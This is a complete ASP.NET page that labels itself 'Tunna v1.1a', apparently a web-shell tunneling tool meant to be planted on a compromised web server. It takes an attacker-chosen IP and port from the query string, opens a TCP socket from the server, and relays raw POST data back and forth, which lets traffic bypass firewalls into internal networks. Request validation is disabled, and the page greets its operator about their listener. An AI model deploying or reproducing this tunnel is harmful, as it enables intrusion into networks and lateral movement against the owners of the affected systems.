<%@ Page Language="C#" Debug="true" ENABLESESSIONSTATE = true  ValidateRequest="false" %>
<%@ Import Namespace="System" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.Web" %>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
protected Socket connect(){
	Socket socket;
	IPHostEntry ipHostInfo;
	IPAddress ipAddress;	
	IPEndPoint remoteEP;
	string ip;
	int port;
	try{
		ip = (string) Session["ip"];
		port = (int) Session["port"];
		}
	catch{
		HttpContext.Current.Response.Write("[Server] Missing Arguments "+(string) Session["ip"]+Session["port"]);
		throw;
		}
	ipHostInfo = Dns.GetHostByAddress(ip);
	ipAddress = ipHostInfo.AddressList[0];
	remoteEP = new IPEndPoint(ipAddress, port);
	socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
	socket.SetSocketOption(SocketOptionLevel.Socket, SocketOptionName.ReceiveTimeout, 2000);
	socket.Connect(remoteEP);
	socket.Blocking = false;
	return socket;
}
protected void Page_Load(object sender, EventArgs e){
HttpContext.Current.Server.ScriptTimeout = 600;
if (Request.Url.Query.StartsWith("?proxy")){
	if (Request.Url.Query.StartsWith("?proxy&close")){
		Session["running"] = -1;	
		Socket socket = Session["socket"] as Socket;
		if (socket != null){
			socket.Close();
			}
		Session.Abandon();
		return;
	}
	if(Request.QueryString["port"] != null){
		Session["port"] = Convert.ToInt32(Request.QueryString["port"]);
	}
	if(Request.QueryString["ip"] != null){
		Session["ip"] = Request.QueryString["ip"];
	}
	if(Session["running"] == null){
		Session["running"] = 0;
		Response.Write("[Server] All good to go, ensure the listener is working ;-)\n[FILE]:[WIN]");
		}
	else{
		if ((int)Session["running"] == 0){
			Session["socket"] = connect();
			Session["running"] = 1;
			Response.Write("[OK]");
			return;
			}
		else{									
			Socket socket = Session["socket"] as Socket;
			byte[] postData = Request.BinaryRead(Request.TotalBytes);
			if (postData.Length > 0){
				socket.Send(postData);
			}
			byte[] receiveBuffer = new byte[8192];
			try{
				int bytesRead = socket.Receive(receiveBuffer);
				if (bytesRead > 0) {
					byte[] received = new byte[bytesRead];
					Array.Copy(receiveBuffer, received , bytesRead);
					Response.BinaryWrite(received);
					}
				}
			catch(Exception){
				HttpContext.Current.Response.Write("");
				}
			}
		}
	}
	else{
		HttpContext.Current.Response.Write("Tunna v1.1a");
	}
}
</script>
